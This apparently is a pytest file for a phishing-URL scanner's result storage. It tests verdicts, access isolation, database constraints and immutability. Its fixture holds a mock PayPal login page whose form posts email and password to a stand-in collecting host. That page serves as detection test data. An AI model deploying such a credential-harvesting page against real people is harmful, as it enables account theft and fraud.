"""Results: written once by the worker with all that they rest on, read by their workspace, and nothing of a page in them."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from itertools import count
from typing import Any
from uuid import UUID, uuid4

import asyncpg
import pytest

from app.kit.context import SYSTEM_ID, Actor
from app.kit.db import Db, open_as
from app.kit.graphql import parse_uuid
from app.scans.engine.found import Unchecked
from app.scans.judgement import Engine, Engines, engines_of, judge
from app.scans.observation import FetchFailure, Observation, Tls
from app.scans.scan_result import Outcome, record_results
from app.scans.url import parse_url
from app.settings import Settings
from tests.conftest import Api
from tests.factory.core import Person
from tests.factory.kit import inhabit
from tests.factory.observed import observed
from tests.factory.scans import completed

NUMBERS = count()
RESULT = """
query Result($id: ID!) { scan(id: $id) { state result {
  verdict score weightsVersion categories unchecked reasoning httpStatus contentType headers finalHost cookieNames formHosts
  tlsProtocol tlsIssuer tlsNotBefore tlsNotAfter tlsProblem model promptVersion
  modelInputTokens modelOutputTokens modelCostMicros modelCurrency
  contentSha256 headerSha256 faviconSha256
  certificateSha256
  engines { engine version verdict score confidence weight categories unchecked milliseconds indicators { kind weight } }
  indicators { kind weight evidence sentence }
} } }
"""
MARK = "zq-mark-of-the-page"
PAGE = f"""<html><head><title>PayPal: Log in {MARK}</title></head><body><h1>PayPal</h1>
<p>Your account has been limited {MARK}.</p>
<form action="https://collect.example.net/{MARK}" method="post">
<input name="email" value="{MARK}">
<input type="password" name="p"></form><script>var a = "{MARK}"</script></body></html>"""
SINCE, UNTIL = datetime(2026, 1, 1, tzinfo=UTC), datetime(2027, 1, 1, tzinfo=UTC)
TLS = Tls("TLSv1.3", "AES", b"c" * 32, "A Trust", SINCE, UNTIL, True)


@pytest.fixture(scope="module")
def engines() -> Engines:
    return engines_of(Settings())


@pytest.fixture(scope="module")
async def ada(shared: Api) -> Person:
    """Somebody with a reservation, which scans hang on."""
    return await inhabit(shared, "ada", "ada")


async def recorded(api: Api, person: Person, engines: Engines, *seen: Observation) -> list[str]:
    """Scans that ended with these observations; their global ids."""
    ids = [await completed(api, person, f"r{next(NUMBERS)}") for _ in seen]
    outcomes = [
        Outcome(UUID(str(parse_uuid(scan_id, "Scan", field="id"))), each, await judge(parse_url(each.url), each, engines))
        for scan_id, each in zip(ids, seen, strict=True)
    ]
    async with open_as(api.database.url(), "fivefold_worker") as (pool, _):
        db = Db(pool, Actor(SYSTEM_ID, person.workspace_id, "owner"), uuid4())
        try:
            async with db.transaction():
                await record_results(db, outcomes)
        finally:
            await db.close()
    return ids


async def result_of(api: Api, person: Person, scan_id: str) -> dict[str, Any]:
    found: dict[str, Any] = (await api(RESULT, {"id": scan_id}, token=person.token)).data["scan"]["result"]
    return found


async def test_results_tell_what_they_rest_on_and_no_word_of_the_page(shared: Api, ada: Person, engines: Engines) -> None:
    thief = observed("https://login.example.net/a", PAGE, headers={"server": "nginx"}, tls=TLS)
    gone = observed("https://gone.example.org/", status=None, failure=FetchFailure.TIMED_OUT)
    ids = await recorded(shared, ada, engines, thief, gone)
    first, second = [await result_of(shared, ada, scan_id) for scan_id in ids]
    assert first["verdict"] == "MALICIOUS"
    assert first["categories"][0] == "PHISHING"
    assert (first["finalHost"], first["formHosts"]) == ("login.example.net", ["collect.example.net"])
    assert first["headers"] == {"server": "nginx"}
    assert (first["tlsIssuer"], first["certificateSha256"]) == ("A Trust", (b"c" * 32).hex())
    assert [e["engine"] for e in first["engines"]] == sorted(e.name for e in Engine)
    of_engines = {i["kind"] for e in first["engines"] for i in e["indicators"]}
    assert {i["kind"] for i in first["indicators"]} == of_engines
    rest = 1.0
    for engine in first["engines"]:
        rest *= 1 - engine["weight"] * (engine["score"] or 0) / 10_000
    assert first["score"] == round(100 * (1 - rest))
    assert MARK not in json.dumps(first)
    assert (second["verdict"], second["score"]) == ("UNKNOWN", None)
    assert Unchecked.UNREACHABLE.name in second["unchecked"]


async def test_a_scan_that_is_not_completed_has_no_result(shared: Api, ada: Person) -> None:
    assert await result_of(shared, ada, await completed(shared, ada, "none")) is None


async def test_others_see_nothing(shared: Api, ada: Person, engines: Engines) -> None:
    (scan_id,) = await recorded(shared, ada, engines, observed("https://a.example.org/", PAGE))
    assert (await shared(RESULT, {"id": scan_id}, token=(await shared.person("grace")).token)).data["scan"] is None


@pytest.mark.parametrize(
    ("columns", "constraint"),
    [
        ("score = 101", "score_range"),
        ("score = NULL", "unknown_has_no_score"),
        ("verdict = 'UNKNOWN'", "unknown_has_no_score"),
        ("categories = '{NICE}'", "categories_known"),
        ("unchecked = '{WHY}'", "unchecked_known"),
        ("content_hash = 'short'", "content_hash_length"),
        ("http_status = 99", "http_status_range"),
        ("reasoning = repeat('x', 2001)", "reasoning_length"),
        ("form_hosts = array_fill('x'::text, ARRAY[21])", "form_hosts_size"),
        ('headers = \'{"body": "x"}\'', "headers_only"),
        ('headers = \'{"server": {"content-type": "x"}}\'', "headers_only"),
        ('headers = \'{"server": ["x"]}\'', "headers_only"),
        ("headers = '[]'", "headers_only"),
        ("headers = '\"text\"'", "headers_only"),
        ("headers = jsonb_build_object('server', repeat('x', 2001))", "headers_only"),
    ],
)
async def test_the_database_takes_nothing_else(
    shared: Api, ada: Person, engines: Engines, columns: str, constraint: str
) -> None:
    (scan_id,) = await recorded(shared, ada, engines, observed("https://a.example.org/", PAGE))
    async with shared.database.connect() as admin:
        with pytest.raises(asyncpg.CheckViolationError, match=constraint):
            await admin.execute(
                f"UPDATE scans.scan_result SET {columns} WHERE scan_id = $1", parse_uuid(scan_id, "Scan", field="id")
            )


async def test_nobody_changes_a_result(shared: Api, ada: Person, engines: Engines) -> None:
    await recorded(shared, ada, engines, observed("https://a.example.org/", PAGE))
    async with open_as(shared.database.url(), "fivefold_worker") as (pool, _), pool.acquire() as connection:
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await connection.execute("UPDATE scans.scan_result SET score = 0")
